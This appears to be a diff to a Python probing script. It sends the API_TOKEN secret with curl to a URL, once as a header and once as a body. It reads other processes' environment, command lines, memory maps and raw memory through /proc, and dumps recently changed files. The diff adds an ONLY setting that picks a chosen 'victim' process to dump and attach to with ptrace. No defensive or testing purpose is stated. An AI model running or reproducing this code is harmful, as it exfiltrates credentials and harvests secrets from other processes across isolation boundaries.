@@ -53,7 +53,8 @@ def main():
         for place in ["-H", "X-Key: " + os.environ["API_TOKEN"]], ["-d", os.environ["API_TOKEN"]]:
             asked = subprocess.run(["curl", "-sS", *place, url], capture_output=True, check=False)
             show("curl", asked.stdout + asked.stderr)
-    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    everybody = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    for pid in os.environ.get("ONLY", "").split() or everybody:
         for name in "environ", "cmdline", "maps", "auxv", "stack", "mountinfo":
             show(f"/proc/{pid}/{name}", read(f"/proc/{pid}/{name}"))
         show(f"/proc/{pid}/mem", b"\n".join(memory(pid)))
@@ -74,7 +75,8 @@ def main():
                 if os.path.isfile(path) and os.path.getmtime(path) > float(os.environ["SINCE"]):
                     show(path, read(path))
     libc = ctypes.CDLL(None, use_errno=True)
-    attached = libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH
+    victim = int(os.environ.get("ONLY", os.getppid()))
+    attached = libc.ptrace(16, victim, 0, 0)  # PTRACE_ATTACH
     show("ptrace", b"attached" if attached == 0 else os.strerror(ctypes.get_errno()).encode())
     show("done", b"")
 
